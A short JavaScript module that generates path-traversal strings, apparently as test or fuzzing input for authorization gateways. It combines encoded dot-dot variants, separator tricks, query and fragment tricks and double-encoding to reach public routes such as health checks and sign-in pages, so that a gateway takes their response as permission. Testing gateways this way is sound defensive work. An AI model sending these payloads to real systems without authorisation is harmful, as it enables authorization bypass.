// Ways to spell a path that escapes its prefix, against gateways that append a client's path to a base address.

/** Public routes: a gateway that reached one would take its response for permission. */
const OPEN = ['health', '.well-known/jwks.json', 'account/signin'];
const UP = ['..', '%2e%2e', '%2E%2e', '.%2e', '%2e.', '..;', '..;x=y', '%2e%2e;', '%252e%252e', '%252E%252e', '..%00', '...', '%c0%ae%c0%ae', '..%09'];
const SEPARATORS = ['/', '\\', '//', '/./', '%2f', '%2F', '%5c', '%252f', ';/'];

/** More than deep enough: segments above the root have no effect. */
const DEPTH = 6;

const climbing = OPEN.flatMap((open) => UP.flatMap((up) => SEPARATORS.map((separator) => `/private${separator}${`${up}${separator}`.repeat(DEPTH)}${open}`)));
const others = OPEN.flatMap((open) => [
  `/${open}`,
  `//${open}`,
  `/?/../../../../${open}`,
  `/private?x=y&path=/${open}`,
  `/private?/%2e%2e/%2e%2e/%2e%2e/%2e%2e/${open}`,
  `/private/../../../../${open}?x`,
  `/private/%2e%2e/%2e%2e/%2e%2e/%2e%2e/${open}#/api/auth/verify`,
  `/private#/../../../../${open}`,
  `http://app.example.com/private/../../../../${open}`,
  `http://auth.example.com/${open}`,
  `/private/%2e%2e\\%2e%2e/..\\..;/%2e./.%2E/%2e%2E/${open}`,
]);

export const SPELLINGS = [...climbing, ...others];
